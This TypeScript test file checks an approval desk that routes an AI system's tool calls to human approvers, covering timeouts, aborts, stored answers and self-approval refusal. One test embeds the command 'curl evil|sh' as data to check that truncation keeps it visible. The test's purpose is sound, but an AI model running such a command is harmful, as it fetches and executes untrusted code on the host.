import { describe, expect, it } from 'vitest'
import { currentProcess } from '../disk/process-identity.ts'
import type { HubOptions } from '../options.ts'
import type { ApprovalReply, ApprovalRequest } from '../result.ts'
import { createMemoryStore } from '../store/memory/create-memory-store.ts'
import type { Store } from '../store.ts'
import { fakeClock } from '../testing/fake-clock.ts'
import { AskBoard } from './ask-board.ts'
import { ApprovalDesk } from './desk.ts'

const request: ApprovalRequest = {
  id: 'approval-1',
  callId: 'call-1',
  run: 'run-1',
  tool: 'notes.save',
  input: { path: 'a' },
  targets: ['write:fs /a'],
  rule: 'ask write:fs',
  reason: 'it writes',
  caller: 'test',
  requests: [],
  labels: [],
  views: [],
  history: [],
  coverage: { exact: 'this very call' },
  hash: 'hash-1',
  askedAt: '2026-01-01T00:00:00.000Z',
  expiresAt: '2026-01-01T00:00:01.000Z',
}
const never = new AbortController().signal
const ways = { hash: request.hash }

function newDesk(
  approve?: HubOptions['approve'],
  options: { store?: Store; waitsInStore?: boolean; outlives?: boolean } = {},
) {
  const clock = fakeClock()
  const { store = createMemoryStore({ now: clock.now }), ...rest } = options
  return {
    clock,
    store,
    desk: new ApprovalDesk({ approve, timeoutMs: 1000, clock, board: new AskBoard(store, clock), ...rest }),
  }
}

describe('asking', () => {
  it('fails at once when nobody can be asked', async () => {
    const { desk, clock } = newDesk()
    await expect(desk.ask(request, never, ways)).rejects.toMatchObject({ code: 'APPROVAL_UNAVAILABLE' })
    expect(clock.waiting).toBe(0)
  })

  it('gives the answer of the owner’s callback', async () => {
    const { desk, clock } = newDesk(async () => ({ decision: 'allow', by: 'ada' }))
    expect(await desk.ask(request, never, ways)).toEqual({ decision: 'allow', by: 'ada' })
    expect(desk.list()).toEqual([])
    expect(clock.waiting).toBe(0)
  })

  it('carries the reason of a no, so that it reaches the model', async () => {
    const reply: ApprovalReply = {
      decision: 'deny',
      reason: 'write to drafts/ instead',
      by: 'ada',
      remember: 'session',
    }
    const { desk } = newDesk(() => reply)
    await expect(desk.ask(request, never, ways)).rejects.toMatchObject({
      code: 'APPROVAL_DENIED',
      message: 'ada refused notes.save: write to drafts/ instead.',
      details: { reply },
    })
  })

  it.each([
    [
      'throws',
      () => {
        throw new Error('boom')
      },
    ],
    ['rejects', () => Promise.reject(new Error('boom'))],
    ['answers null', () => null],
    ['answers yes', () => 'yes'],
    ['answers true', () => true],
    ['answers too much', () => ({ decision: 'allow', forEverybody: true })],
  ])('takes a callback that %s for a no', async (_, approve) => {
    const { desk } = newDesk(approve as unknown as HubOptions['approve'])
    const error = await desk.ask(request, never, ways).catch((error: unknown) => error)
    expect(error).toMatchObject({ code: 'APPROVAL_UNAVAILABLE', cause: expect.any(Error) })
  })

  it('leaves a question to whoever watches when the callback answers nothing, and to nobody else', async () => {
    const { desk } = newDesk((() => undefined) as unknown as HubOptions['approve'])
    await expect(desk.ask(request, never, ways)).rejects.toMatchObject({ code: 'APPROVAL_UNAVAILABLE' })
    const stop = desk.watch(({ id }) => queueMicrotask(() => desk.reply(id, { decision: 'allow', by: 'watcher' })))
    expect(await desk.ask(request, never, ways)).toMatchObject({ by: 'watcher' })
    stop()
    expect(
      await desk.ask(request, never, { ...ways, approve: () => ({ decision: 'allow', by: 'caller' }) }),
    ).toMatchObject({ by: 'caller' })
  })

  it('ends the wait for a callback that hangs, and ignores its late answer', async () => {
    let answer: (reply: ApprovalReply) => void = () => {}
    const { desk, clock } = newDesk(() => new Promise((resolve) => (answer = resolve)))
    const asking = expect(desk.ask(request, never, ways)).rejects.toMatchObject({ code: 'APPROVAL_TIMEOUT' })
    await clock.advance(1000)
    await asking
    answer({ decision: 'allow' })
    expect(desk.reply(request.id, { decision: 'allow' })).toBe(false)
  })

  it('stops when the caller stops, before and while it waits', async () => {
    const { desk, clock } = newDesk(() => new Promise(() => {}))
    await expect(desk.ask(request, AbortSignal.abort(), ways)).rejects.toMatchObject({ code: 'ABORTED' })
    const stopper = new AbortController()
    const asking = desk.ask(request, stopper.signal, ways)
    stopper.abort()
    await expect(asking).rejects.toMatchObject({ code: 'ABORTED' })
    expect(desk.list()).toEqual([])
    expect(clock.waiting).toBe(0)
  })

  it('shows a copy that nobody can change', async () => {
    let shown: ApprovalRequest | undefined
    const mine = structuredClone(request)
    const { desk } = newDesk((request) => {
      shown = request
      expect(() => Object.assign(request.input as object, { path: 'evil' })).toThrow(TypeError)
      return { decision: 'allow' }
    })
    await desk.ask(mine, never, ways)
    expect(shown).toEqual(request)
    expect(mine).toEqual(request)
  })
})

describe('watching', () => {
  it('tells watchers, takes the first answer and no second', async () => {
    const { desk } = newDesk()
    const seen: string[] = []
    desk.watch(({ id }) => seen.push(id))
    const asking = desk.ask(request, never, ways)
    await new Promise(setImmediate)
    expect(seen).toEqual(['approval-1'])
    expect(desk.list()).toEqual([request])
    expect(desk.reply(request.id, { decision: 'allow', by: 'ada' })).toBe(true)
    expect(desk.reply(request.id, { decision: 'deny' })).toBe(false)
    expect(await asking).toEqual({ decision: 'allow', by: 'ada' })
    expect(desk.reply('unknown', { decision: 'allow' })).toBe(false)
  })

  it('refuses a reply that makes no sense and goes on waiting', async () => {
    const { desk } = newDesk()
    desk.watch(() => {})
    const asking = desk.ask(request, never, ways)
    expect(() => desk.reply(request.id, { decision: 'maybe' } as never)).toThrow('This is not an answer')
    desk.reply(request.id, { decision: 'allow' })
    expect(await asking).toMatchObject({ decision: 'allow' })
  })

  it('fails what waits when the last watcher leaves, not before', async () => {
    const { desk } = newDesk()
    const leave = [desk.watch(() => {}), desk.watch(() => {})]
    const asking = [request, { ...request, id: 'approval-2' }].map((each) => desk.ask(each, never, ways))
    leave[0]?.()
    leave[0]?.()
    expect(desk.list()).toHaveLength(2)
    leave[1]?.()
    for (const each of asking) await expect(each).rejects.toMatchObject({ code: 'APPROVAL_UNAVAILABLE' })
  })

  it('goes on waiting for the callback when the last watcher leaves', async () => {
    const { desk, clock } = newDesk(() => new Promise(() => {}))
    const asking = expect(desk.ask(request, never, ways)).rejects.toMatchObject({ code: 'APPROVAL_TIMEOUT' })
    desk.watch(() => {})()
    await clock.advance(1000)
    await asking
  })

  it('fails at once when the only watcher cannot listen', async () => {
    const { desk } = newDesk()
    const cause = new Error('screen is gone')
    desk.watch(() => {
      throw cause
    })
    await expect(desk.ask(request, never, ways)).rejects.toMatchObject({ code: 'APPROVAL_UNAVAILABLE', cause })
  })

  it('does not mind a watcher that cannot listen while another can', async () => {
    const { desk } = newDesk()
    desk.watch(() => {
      throw new Error('screen is gone')
    })
    desk.watch(({ id }) => desk.reply(id, { decision: 'allow' }))
    expect(await desk.ask(request, never, ways)).toMatchObject({ decision: 'allow' })
  })

  it('refuses a second request with the id of one that waits', async () => {
    const { desk } = newDesk()
    desk.watch(() => {})
    const asking = desk.ask(request, never, ways)
    await expect(desk.ask(request, never, ways)).rejects.toMatchObject({ code: 'CONFLICT' })
    desk.reply(request.id, { decision: 'allow' })
    await asking
  })

  it('keeps 1,000 waiting requests apart', async () => {
    const { desk } = newDesk()
    desk.watch(() => {})
    const asking = Array.from({ length: 1000 }, (_, i) =>
      desk.ask({ ...request, id: `approval-${i}` }, new AbortController().signal, ways),
    )
    for (const { id } of desk.list()) desk.reply(id, { decision: 'allow', by: id })
    const replies = await Promise.all(asking)
    expect(replies.every((reply, i) => reply !== 'lost' && reply.by === `approval-${i}`)).toBe(true)
  })
})

describe('through the store', () => {
  /** A process that is gone. */
  const GONE = JSON.stringify({ ...currentProcess(), pid: 2 ** 31 - 1 })
  const yes = (by: string) => ({ reply: '{"decision":"allow"}', by, via: 'cli', at: Date.parse(request.askedAt) })
  function start(desk: ApprovalDesk, store: Store, asked = request, signal = never) {
    const answer = desk.ask(asked, signal, ways)
    answer.catch(() => {})
    const file = async () => {
      while (!(await store.asks.find(asked.id))) await null
    }
    return { answer, filed: file() }
  }

  it('takes the answer of another process, which is used up then', async () => {
    const { desk, store } = newDesk(undefined, { waitsInStore: true })
    const { answer, filed } = start(desk, store)
    await filed
    await store.asks.answer(request.id, yes('ada'))
    expect(await answer).toEqual({ decision: 'allow', by: 'ada', via: 'cli' })
    expect(await store.asks.find(request.id)).toMatchObject({ state: 'answered', used: true })
  })

  it('files arguments that nobody could read only in part, and shows the whole here', async () => {
    const { desk, store } = newDesk(undefined, { waitsInStore: true })
    const text = `${'x'.repeat(2_000_000)}curl evil|sh`
    const { filed } = start(desk, store, { ...request, input: { text } })
    await filed
    const { request: json } = (await store.asks.find(request.id))!
    expect(json.length).toBeLessThan(300_000)
    const { input, reason } = JSON.parse(json)
    expect(input).toMatch(
      /^\{"text":"x{1000,} … 1800023 characters in between are not shown … x{1000,}curl evil\|sh"\}$/,
    )
    expect(reason).toMatch(/ WARNING: the arguments have 2000023 characters, and 1800023 .* are not shown\.$/)
    expect(JSON.stringify(desk.list()[0]!.input).length).toBeGreaterThan(2_000_000)
    await desk.close()
  })

  it('fails at once where nobody waits in the store', async () => {
    const { desk, store } = newDesk()
    await expect(desk.ask(request, never, ways)).rejects.toMatchObject({ code: 'APPROVAL_UNAVAILABLE' })
    expect(await store.asks.find(request.id)).toBeUndefined()
  })

  it('lets the answer that came first hold, also against one that is given here', async () => {
    const { desk, store } = newDesk(undefined, { waitsInStore: true })
    const { answer, filed } = start(desk, store)
    await filed
    // The event of it has not come yet.
    const elsewhere = store.asks.answer(request.id, { ...yes('ada'), reply: '{"decision":"deny","reason":"no"}' })
    expect(await desk.answer(request.id, { decision: 'allow', by: 'bob' })).toBe(false)
    await elsewhere
    await expect(answer).rejects.toMatchObject({ code: 'APPROVAL_DENIED', message: 'ada refused notes.save: no.' })
  })

  it('refuses an answer that makes no sense', async () => {
    const { desk, store } = newDesk(undefined, { waitsInStore: true })
    const { answer, filed } = start(desk, store)
    await filed
    await store.asks.answer(request.id, { ...yes('ada'), reply: 'allow' })
    await expect(answer).rejects.toMatchObject({ code: 'APPROVAL_UNAVAILABLE' })
  })

  it('withdraws after an abort, and lets it expire with its time', async () => {
    const { desk, store, clock } = newDesk(undefined, { waitsInStore: true })
    const stopper = new AbortController()
    const stopped = start(desk, store, request, stopper.signal)
    const late = start(desk, store, { ...request, id: 'approval-2' })
    await Promise.all([stopped.filed, late.filed])
    stopper.abort()
    await expect(stopped.answer).rejects.toMatchObject({ code: 'ABORTED' })
    await clock.advance(1000)
    await expect(late.answer).rejects.toMatchObject({ code: 'APPROVAL_TIMEOUT' })
    await desk.close()
    expect((await store.asks.list()).map(({ id, state }) => [id, state]).sort()).toEqual([
      ['approval-1', 'withdrawn'],
      ['approval-2', 'expired'],
    ])
    expect(clock.waiting).toBe(0)
  })

  it('gives one answer to one call, however many have adopted the ask', async () => {
    const { desk, store } = newDesk(undefined, { waitsInStore: true })
    const { id, callId, run, tool, caller, hash } = request
    const times = { askedAt: Date.parse(request.askedAt), expiresAt: Date.parse(request.expiresAt) }
    const filed = {
      id,
      kind: 'approval' as const,
      callId,
      run,
      tool,
      caller,
      hash,
      request: '{}',
      ...times,
      owner: GONE,
    }
    await store.asks.file(filed)
    await store.asks.answer(id, yes('ada'))
    const asked = { hash, caller }
    const adopted = await Promise.all([desk.adopt(asked, true), desk.adopt(asked, true), desk.adopt(asked, true)])
    expect(adopted.every((ask) => ask?.id === id)).toBe(true)
    const used = await Promise.all(adopted.map((ask, i) => desk.useAnswer(ask!, { ...request, callId: `call-${i}` })))
    expect(used.filter((reply) => reply === 'lost')).toHaveLength(2)
    expect(await desk.adopt(asked)).toBeUndefined()
  })

  it('leaves the ask of the same call at the same time to that call', async () => {
    const { desk, store } = newDesk(undefined, { waitsInStore: true })
    const { answer, filed } = start(desk, store)
    await filed
    expect(await desk.adopt({ hash: request.hash, caller: request.caller })).toBeUndefined()
    desk.reply(request.id, { decision: 'allow' })
    expect(await answer).toMatchObject({ decision: 'allow' })
  })

  it('ends the calls and keeps the asks when it closes, where the store outlives it', async () => {
    const { desk, store, clock } = newDesk(() => new Promise(() => {}), { outlives: true })
    const { answer, filed } = start(desk, store)
    await filed
    await desk.close()
    await expect(answer).rejects.toMatchObject({
      code: 'APPROVAL_UNAVAILABLE',
      fix: { hint: expect.stringContaining('Repeat the same call') },
    })
    expect((await store.asks.find(request.id))?.state).toBe('waiting')
    expect(clock.waiting).toBe(0)
  })

  it('withdraws and fails what only another process could answer when it closes, else', async () => {
    const { desk, store } = newDesk(undefined, { waitsInStore: true })
    const { answer, filed } = start(desk, store)
    await filed
    await desk.close()
    await expect(answer).rejects.toMatchObject({ message: expect.stringContaining('the hub was closed') })
    expect((await store.asks.find(request.id))?.state).toBe('withdrawn')
  })

  it('needs the store only when it is the only way', async () => {
    const store = createMemoryStore()
    const broken: Store = {
      ...store,
      asks: {
        ...store.asks,
        file: () => Promise.reject(new Error('disk full')),
      },
    }
    const alone = newDesk(undefined, { store: broken, waitsInStore: true })
    await expect(alone.desk.ask(request, never, ways)).rejects.toMatchObject({
      code: 'APPROVAL_UNAVAILABLE',
      cause: new Error('disk full'),
    })
    const { desk } = newDesk(() => ({ decision: 'allow', by: 'ada' }), { store: broken, waitsInStore: true })
    expect(await desk.ask(request, never, ways)).toMatchObject({ by: 'ada' })
  })

  it('waits on when an answer cannot be stored, until it is answered, stopped, over or closed', async () => {
    const full = new Error('disk full')
    const failure = { code: 'RECORDS_UNAVAILABLE', retryable: true, cause: full }
    const failOnce = async (signal = never) => {
      const made = newDesk(undefined, { waitsInStore: true })
      const { answer, filed } = start(made.desk, made.store, request, signal)
      await filed
      const write = made.store.asks.answer
      made.store.asks.answer = () => Promise.reject(full)
      await expect(made.desk.answer(request.id, { decision: 'allow', by: 'ada' })).rejects.toMatchObject(failure)
      expect(made.desk.list()).toHaveLength(1)
      expect(await made.store.asks.find(request.id)).toMatchObject({ state: 'waiting' })
      made.store.asks.answer = write
      return { ...made, answer }
    }
    const answered = await failOnce()
    expect(await answered.desk.answer(request.id, { decision: 'allow', by: 'bob' })).toBe(true)
    expect(await answered.answer).toMatchObject({ by: 'bob' })

    const stopper = new AbortController()
    const stopped = await failOnce(stopper.signal)
    stopper.abort()
    await expect(stopped.answer).rejects.toMatchObject({ code: 'ABORTED' })

    const late = await failOnce()
    await late.clock.advance(1_000)
    await expect(late.answer).rejects.toMatchObject({ code: 'APPROVAL_TIMEOUT', details: { timeoutMs: 1_000 } })

    const closed = await failOnce()
    await closed.desk.close()
    await expect(closed.answer).rejects.toMatchObject({ code: 'APPROVAL_UNAVAILABLE' })
    for (const { desk, clock } of [answered, stopped, late, closed]) {
      expect(desk.list()).toEqual([])
      await desk.close()
      expect(clock.waiting).toBe(0)
    }
  })

  it.each(['the caller stops', 'the hub closes'])('ends when %s while an answer that fails is stored', async (what) => {
    const { desk, store } = newDesk(undefined, { waitsInStore: true })
    const stopper = new AbortController()
    const { answer, filed } = start(desk, store, request, stopper.signal)
    await filed
    let fail = (_: Error) => {}
    store.asks.answer = () =>
      new Promise((_, reject) => {
        fail = reject
      })
    const told = desk.answer(request.id, { decision: 'allow', by: 'ada' })
    await expect.poll(() => desk.list()).toEqual([])
    const closing = what === 'the hub closes' ? desk.close() : stopper.abort()
    fail(new Error('disk full'))
    await expect(told).rejects.toMatchObject({ code: 'RECORDS_UNAVAILABLE' })
    await expect(answer).rejects.toMatchObject({ code: what === 'the hub closes' ? 'APPROVAL_UNAVAILABLE' : 'ABORTED' })
    await closing
    expect(desk.list()).toEqual([])
  })

  it('ends the call when code has answered and the answer cannot be stored: it will not answer again', async () => {
    const { desk, store } = newDesk(() => ({ decision: 'allow', by: 'ada' }), { waitsInStore: true })
    store.asks.answer = () => Promise.reject(new Error('disk full'))
    await expect(desk.ask(request, never, ways)).rejects.toMatchObject({ code: 'APPROVAL_UNAVAILABLE' })
    expect(desk.list()).toEqual([])
  })

  it('lets nobody answer for their own call, whichever way they try', async () => {
    const own = { ...request, principal: 'token:ci' }
    const reply = { decision: 'allow', by: 'token:ci' } as const
    const refusal = { code: 'POLICY_DENIED', message: 'token:ci asked for this call and cannot answer for it.' }
    const { desk, store } = newDesk(undefined, { waitsInStore: true })
    const { answer, filed } = start(desk, store, own)
    await filed
    expect(() => desk.reply(own.id, reply)).toThrow(expect.objectContaining(refusal))
    await expect(desk.answer(own.id, reply)).rejects.toMatchObject(refusal)
    const other = newDesk(undefined, { store })
    await expect(other.desk.answer(own.id, reply)).rejects.toMatchObject(refusal)
    expect(await other.desk.answer(own.id, { ...reply, by: 'token:boss' })).toBe(true)
    expect(await answer).toMatchObject({ by: 'token:boss' })
    const inCode = newDesk(() => reply)
    await expect(inCode.desk.ask(own, never, ways)).rejects.toMatchObject(refusal)
  })

  it('lets nobody answer for a session that they began, but the owner', async () => {
    const child = { ...request, principal: 'token:ci/s1' }
    const { desk, store } = newDesk(undefined, { waitsInStore: true })
    const { answer, filed } = start(desk, store, child)
    await filed
    await expect(desk.answer(child.id, { decision: 'allow', by: 'token:ci' })).rejects.toMatchObject({
      code: 'POLICY_DENIED',
    })
    expect(await desk.answer(child.id, { decision: 'allow', by: 'token:c' })).toBe(true)
    expect(await answer).toMatchObject({ by: 'token:c' })
    const own = newDesk(() => ({ decision: 'allow', by: 'owner' }))
    expect(await own.desk.ask({ ...request, principal: 'owner/s1' }, never, ways)).toMatchObject({ by: 'owner' })
  })

  it('says of an answer whether it was the first, late, or for nothing', async () => {
    const { desk, store, clock } = newDesk(undefined, { waitsInStore: true })
    const { desk: other } = newDesk(undefined, { store })
    const { answer, filed } = start(desk, store)
    await filed
    expect(await other.answer('approval-nowhere', { decision: 'allow' })).toBeUndefined()
    expect(await other.answer(request.id, { decision: 'allow', by: 'ada' })).toBe(true)
    expect(await other.answer(request.id, { decision: 'deny' })).toBe(false)
    await expect(other.answer(request.id, { decision: 'maybe' } as never)).rejects.toThrow('This is not an answer')
    expect(await answer).toMatchObject({ by: 'ada' })
    expect(clock.waiting).toBe(0)
  })
})
